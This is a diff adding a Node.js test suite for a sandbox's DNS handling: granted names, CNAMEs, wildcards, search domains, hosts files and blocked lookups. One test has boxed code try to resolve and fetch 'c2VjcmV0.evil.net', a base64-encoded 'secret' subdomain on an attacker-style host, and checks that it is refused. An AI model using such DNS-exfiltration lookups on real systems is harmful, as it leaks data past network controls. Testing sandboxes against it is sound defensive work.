@@ -1,0 +1,149 @@
+// Programs in a box and the names they use.
+import assert from 'node:assert';
+import { writeFileSync } from 'node:fs';
+import http from 'node:http';
+import { join } from 'node:path';
+import { test } from 'node:test';
+import { place } from '../place.mjs';
+import { serve } from './dns.mjs';
+
+const skip = process.env.NAMES_INSIDE ? false : 'no network and mount namespaces to be had here';
+const conf = (text) => writeFileSync(join(process.env.NAMES_PLACE, 'resolv.conf'), text);
+const hosts = (text) => writeFileSync(join(process.env.NAMES_PLACE, 'hosts'), text);
+const NXDOMAIN = 3;
+
+const zone = {
+  'api.example.com': [['api.example.com', 'A', 60, '10.53.9.1']],
+  'db.corp.example': [['db.corp.example', 'A', 60, '10.53.9.1']],
+  'www.wild.example': [['www.wild.example', 'CNAME', 60, 'x.cdn.net'], ['x.cdn.net', 'A', 60, '10.53.9.1']],
+  'inside.wild.example': [['inside.wild.example', 'A', 60, '127.0.0.1']],
+  'txt.wild.example': [['txt.wild.example', 'TXT', 60, 'hello']],
+  'long.wild.example': Array.from({ length: 60 }, (_, i) => ['long.wild.example', 'A', 60, `10.53.9.${1 + i}`]),
+};
+const reply = ({ name, type }, { tcp }) => {
+  const all = zone[name];
+  if (!all) return { rcode: NXDOMAIN };
+  const answers = all.filter(([, t]) => t === type || t === 'CNAME');
+  return answers.length > 20 && !tcp ? { truncated: true } : { answers };
+};
+
+// What `body` (of an async function) makes of its names; `out` collects what it says.
+async function boxed(t, grants, body, { more = {}, text = 'nameserver 127.53.0.1\noptions timeout:1\n', args = [] } = {}) {
+  conf(text);
+  const dns = await serve('127.53.0.1', reply);
+  const web = http.createServer((request, response) => response.end(`hello ${request.headers.host}`));
+  await new Promise((done) => web.listen(8080, done));
+  const p = place('names', {
+    files: {
+      'a.js': `const dns = require('dns'), net = require('net'), http = require('http'), { spawnSync } = require('child_process');
+        const out = [];
+        const say = async (fn) => { try { out.push(await fn()); } catch (error) { out.push(error.cause?.code ?? error.code ?? error.message); } };
+        const get = (url) => new Promise((done, fail) => http.get(url, (r) => { let s = ''; r.on('data', (d) => { s += d; }).on('end', () => done(s)); }).on('error', fail));
+        const connect = (port, host) => new Promise((done, fail) => { const s = net.connect(port, host, () => { s.destroy(); done('connected'); }).on('error', fail); });
+        const run = (...argv) => { const r = spawnSync(argv[0], argv.slice(1), { encoding: 'utf8' }); return [r.status, r.stdout.trim()]; };
+        (async () => { ${body} })().then(() => console.log(JSON.stringify(out)));`,
+    },
+    policy: { app: { 'net.connect': grants, stdio: ['stdout', 'stderr'], timers: true, clock: true, process: ['exit'], ...more } },
+  });
+  t.after(() => { p.remove(); dns.close(); web.closeAllConnections(); web.close(); hosts(''); });
+  const { status, signal, stdout, stderr } = await p.npsx([...args, 'a.js'], { seconds: 60 });
+  assert.deepEqual([status, signal], [0, null], stderr);
+  return { out: JSON.parse(stdout), stderr, log: dns.log, names: [...new Set(dns.log.map((q) => q.name))] };
+}
+
+test('by name, in all the ways there are', { skip }, async (t) => {
+  const { out, names, stderr } = await boxed(t, ['api.example.com:8080'], `
+    await say(() => dns.promises.lookup('api.example.com'));
+    await say(() => new Promise((done, fail) => dns.lookup('api.example.com', { all: true }, (e, a) => e ? fail(e) : done(a))));
+    await say(() => dns.promises.resolve4('api.example.com'));
+    await say(() => new Promise((done, fail) => dns.resolve('api.example.com', (e, a) => e ? fail(e) : done(a))));
+    await say(() => new dns.promises.Resolver({ timeout: 2000, tries: 1 }).resolve4('api.example.com'));
+    await say(() => new Promise((done, fail) => new dns.Resolver().resolve4('api.example.com', { ttl: true }, (e, a) => e ? fail(e) : done(a[0].address))));
+    await say(() => fetch('http://api.example.com:8080/').then((r) => r.text()));
+    await say(() => get('http://api.example.com:8080/'));
+    await say(() => connect(8080, 'api.example.com'));`);
+  const hello = 'hello api.example.com:8080';
+  assert.deepEqual(out, [{ address: '10.53.9.1', family: 4 }, [{ address: '10.53.9.1', family: 4 }], ['10.53.9.1'], ['10.53.9.1'], ['10.53.9.1'], '10.53.9.1', hello, hello, 'connected']);
+  assert.deepEqual(names, ['api.example.com']);
+  assert.doesNotMatch(stderr, /net\.connect/);
+});
+
+test('CNAMEs, wildcards, other types, answers that come over TCP', { skip }, async (t) => {
+  const { out, log } = await boxed(t, ['*.wild.example'], `
+    await say(() => fetch('http://www.wild.example:8080/').then((r) => r.text()));
+    await say(() => dns.promises.resolveTxt('txt.wild.example'));
+    await say(() => dns.promises.resolve4('www.wild.example'));
+    await say(() => dns.promises.resolve4('long.wild.example').then((a) => a.length));
+    await say(() => dns.promises.lookup('long.wild.example', { all: true }).then((a) => a.length));
+    await say(() => dns.promises.resolve4('none.wild.example'));
+    await say(() => dns.promises.lookup('none.wild.example'));`);
+  assert.deepEqual(out, ['hello www.wild.example:8080', [['hello']], ['10.53.9.1'], 60, 60, 'ENOTFOUND', 'ENOTFOUND']);
+  assert.ok(log.some((q) => q.tcp && q.name === 'long.wild.example'));
+});
+
+test('a name that is not granted never leaves, and the fix is told', { skip }, async (t) => {
+  const { out, log, stderr } = await boxed(t, ['api.example.com:8080'], `
+    await say(() => dns.promises.lookup('c2VjcmV0.evil.net'));
+    await say(() => dns.promises.resolve4('c2VjcmV0.evil.net'));
+    await say(() => new dns.promises.Resolver().resolveTxt('c2VjcmV0.evil.net'));
+    await say(() => fetch('http://c2VjcmV0.evil.net/'));`);
+  assert.deepEqual(out.slice(0, 3), ['EACCES', 'EACCES', 'EACCES']);
+  assert.deepEqual(log.map((q) => q.name), []);
+  assert.match(stderr, /npsx grant app net\.connect:c2VjcmV0\.evil\.net/);
+});
+
+test('names that lead inside, and addresses that no name led to', { skip }, async (t) => {
+  const { out } = await boxed(t, ['*.wild.example', 'api.example.com:8080'], `
+    await say(() => connect(8080, 'inside.wild.example'));
+    await say(() => connect(8080, '10.53.9.2'));
+    await say(() => connect(8081, 'api.example.com'));`);
+  assert.deepEqual(out, ['EACCES', 'EACCES', 'EACCES']);
+});
+
+test('servers are shown as they are', { skip }, async (t) => {
+  const { out } = await boxed(t, ['api.example.com:8080', '10.53.9.2:53'], `
+    const r = new dns.Resolver();
+    out.push(dns.getServers(), dns.promises.getServers(), r.getServers());
+    await say(() => r.setServers(['127.53.0.1']));
+    r.setServers(['10.53.9.2']);
+    out.push(r.getServers(), dns.getServers());`, { text: 'nameserver 127.53.0.1\nnameserver 2001:db8::53\n' });
+  const servers = ['127.53.0.1', '2001:db8::53'];
+  assert.deepEqual(out, [servers, servers, servers, 'EACCES', ['10.53.9.2'], servers]);
+});
+
+test('a server of its own, granted as an address', { skip }, async (t) => {
+  const other = await serve('10.53.9.2', ({ name }) => ({ answers: [[name, 'A', 60, '10.53.9.1']] }));
+  t.after(other.close);
+  const { out, log } = await boxed(t, ['own.example:8080', '10.53.9.2:53'], `
+    const r = new dns.promises.Resolver();
+    r.setServers(['10.53.9.2']);
+    await say(() => r.resolve4('own.example'));`);
+  assert.deepEqual(out, [['10.53.9.1']]);
+  assert.deepEqual([other.log.length, log.length], [1, 0]);
+});
+
+test('search domains and /etc/hosts', { skip }, async (t) => {
+  hosts('10.53.9.1 byhosts.example\n127.0.0.1 localhost\n');
+  const { out, names } = await boxed(t, ['db:8080', 'byhosts.example:8080', 'localhost:8080'], `
+    await say(() => fetch('http://db:8080/').then((r) => r.text()));
+    await say(() => fetch('http://byhosts.example:8080/').then((r) => r.text()));
+    await say(() => fetch('http://localhost:8080/').then((r) => r.text()));`, { text: 'nameserver 127.53.0.1\nsearch corp.example\n' });
+  assert.deepEqual(out, ['hello db:8080', 'hello byhosts.example:8080', 'hello localhost:8080']);
+  assert.deepEqual(names, ['db.corp.example']);
+});
+
+test('the first server is dead', { skip }, async (t) => {
+  const { out } = await boxed(t, ['api.example.com:8080'], `
+    await say(() => fetch('http://api.example.com:8080/').then((r) => r.text()));
+    await say(() => dns.promises.resolve4('api.example.com'));`, { text: 'nameserver 127.53.0.9\nnameserver 127.53.0.1\noptions timeout:1\n' });
+  assert.deepEqual(out, ['hello api.example.com:8080', ['10.53.9.1']]);
+});
+
+test('without a box nothing changes', { skip }, async (t) => {
+  const { out, names } = await boxed(t, ['api.example.com:8080'], `
+    await say(() => dns.promises.resolve4('api.example.com'));
+    await say(() => dns.promises.lookup('api.example.com'));
+    out.push(dns.getServers());`, { args: ['--box=off'] });
+  assert.deepEqual(out, [['10.53.9.1'], { address: '10.53.9.1', family: 4 }, ['127.53.0.1']]);
+  assert.deepEqual(names, ['api.example.com']);
+});
